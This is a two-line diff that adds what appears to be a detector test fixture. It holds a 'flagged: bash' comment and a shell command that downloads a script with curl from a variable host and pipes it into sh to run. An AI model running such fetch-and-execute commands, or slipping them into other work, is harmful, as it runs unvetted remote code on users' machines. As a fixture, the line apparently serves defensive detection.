@@ -1,0 +1,2 @@
+# flagged: bash
+sh -c "$(curl -s "$RG_HTTP/hello.sh")"
